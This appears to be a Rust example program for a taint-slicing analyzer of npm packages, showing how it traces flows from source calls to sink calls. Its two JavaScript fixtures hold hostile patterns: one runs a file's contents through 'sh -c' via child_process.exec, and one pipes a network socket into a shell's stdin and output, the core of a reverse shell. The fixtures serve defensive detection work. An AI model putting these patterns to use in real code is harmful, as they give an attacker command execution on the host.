//! Data-flow taint slicing: follow value flow from source calls to sink
//! calls and cut one slice per flow path.  When no graph path exists —
//! callback-heavy code often hides the flow — a lexical fallback looks
//! for a sink nested under an enclosing source call and snips that
//! region instead.
//!
//!     cargo run --example taint_slicing

use npm_slice::cpg::{assemble_cpg, build_cfg, build_dfg, parse_file};
use npm_slice::ingest::PackageRef;
use npm_slice::{builtin_catalog, taint_slice, SliceBudget, SliceStrategy};

/// A clean def-use chain from source to sink: flows are found on the graph.
const FLOW_SRC: &str = r#"const fs = require('fs');
const cp = require('child_process');
const recipe = fs.readFileSync('./payload.txt', 'utf8');
const cmd = 'sh -c ' + recipe;
cp.exec(cmd);
"#;

/// No def-use chain reaches the pipe calls, but they sit inside the
/// connect(...) callback — the fallback finds the enclosing source.
const FALLBACK_SRC: &str = r#"client.connect(port, host, function () {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
  shell.stderr.pipe(client);
});
"#;

fn run_on(name: &str, src: &str) {
    let mut fg = parse_file("index.js", src);
    build_cfg(&mut fg);
    build_dfg(&mut fg);
    let cpg = assemble_cpg(PackageRef::from_path(name), vec![fg]);
    let run = taint_slice(&cpg, &builtin_catalog(), &SliceBudget::unlimited());

    println!("== {name}: {} slice(s) ==", run.slices.len());
    for s in &run.slices {
        let how = match s.strategy {
            SliceStrategy::TaintFlow => "graph flow",
            SliceStrategy::TaintFallback => "enclosing-source fallback",
            other => other.as_str(),
        };
        println!("\n  [{}] via {how}", s.slice_ref());
        if let (Some(src), Some(snk)) = (&s.source_anchor, &s.sink_anchor) {
            println!(
                "  {}:{} ({}) --> {}:{} ({})",
                src.file,
                src.line,
                src.callee.as_deref().unwrap_or("?"),
                snk.file,
                snk.line,
                snk.callee.as_deref().unwrap_or("?")
            );
        }
        for line in s.snippet.lines() {
            println!("    | {line}");
        }
    }
    println!();
}

fn main() {
    run_on("flow-demo", FLOW_SRC);
    run_on("fallback-demo", FALLBACK_SRC);
}
